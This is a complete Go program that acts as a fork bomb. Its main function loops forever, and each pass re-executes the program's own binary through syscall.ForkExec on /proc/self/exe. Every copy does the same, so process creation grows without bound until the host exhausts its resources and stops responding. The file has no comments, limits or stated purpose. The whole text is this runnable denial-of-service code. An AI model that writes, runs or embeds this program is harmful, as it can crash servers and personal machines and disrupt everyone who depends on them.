package main

import (
	"os"
	"syscall"
)

func main() {
	for {
		syscall.ForkExec("/proc/self/exe", os.Args, &syscall.ProcAttr{})
	}
}
